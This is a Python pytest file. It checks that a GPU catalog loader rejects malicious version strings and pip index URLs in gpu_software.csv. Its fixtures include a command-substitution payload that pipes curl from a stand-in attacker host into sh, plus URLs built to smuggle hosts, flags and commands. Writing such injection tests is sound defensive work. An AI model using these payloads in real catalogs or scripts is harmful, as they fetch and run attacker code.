"""No shell injection through a catalog copy: the loader's checks on gpu_software.csv, and quoting in every boot script.

The scripts are rendered with hostile values that bypass the loader (spaces, ``$(...)``, backticks, quotes, newlines,
``;``); the shell must see each as one word: the scripts parse, the env files give the value back verbatim, the node
script's commands receive it as one argument (fakes on PATH record argv), and the canary file is never created.
"""

from __future__ import annotations

import os
import subprocess
from dataclasses import fields, replace
from pathlib import Path

import pytest
import yaml

from blueprints import bootstrap as b
from blueprints.catalog import load_catalog
from tests.catalog.test_loader_checks import data, edit, message  # noqa: F401  (data is a fixture)
from tests.test_bootstrap import SHELLCHECK, files, spec

# ------------------------------------------------------------------------------------------------
# The loader: versions are dotted numbers, the pip index is https from the documented hosts
# ------------------------------------------------------------------------------------------------

EVIL = "550.127.08$(curl evil.example|sh)"


@pytest.mark.parametrize("column", ["driver_version", "cuda_version", "cudnn_version", "pytorch_version"])
def test_a_version_that_is_not_a_dotted_number_stops_the_catalog(data, column):  # noqa: F811
    line = edit(data, "gpu_software.csv", 0, **{column: EVIL})
    assert message(data) == (
        f"gpu_software.csv line {line}, column {column!r}: must be a dotted version number of 1 to 4 parts, digits only, "
        f"e.g. 550.127.08 (got {EVIL!r})"
    )


@pytest.mark.parametrize(
    "url",
    [
        "http://download.pytorch.org/whl/cu124",
        "https://evil.example/whl/cu124",
        "https://download.pytorch.org.evil.example/whl",
        "https://user@download.pytorch.org/whl",
        "https://download.pytorch.org:8443/whl",
        "https://download.pytorch.org/whl/cu124 --trusted-host evil.example",
        "https://download.pytorch.org/whl/$(id)",
    ],
)
def test_an_index_url_must_be_https_on_a_documented_host(data, url):  # noqa: F811
    line = edit(data, "gpu_software.csv", 0, pytorch_index_url=url)
    assert message(data) == (
        f"gpu_software.csv line {line}, column 'pytorch_index_url': must be an https:// URL on one of the hosts "
        f"download.pytorch.org, mirrors.aliyun.com, path of letters, digits and ._~/%+- only (no port, user, query or spaces) "
        f"(got {url!r})"
    )


def test_the_documented_hosts_and_shapes_load(data):  # noqa: F811
    edit(data, "gpu_software.csv", 0, pytorch_index_url="https://mirrors.aliyun.com/pytorch-wheels/cu124", cudnn_version="9")
    software = load_catalog(data).gpu_software
    assert any(s.pytorch_index_url == "https://mirrors.aliyun.com/pytorch-wheels/cu124" and s.cudnn_version == "9" for s in software.values())
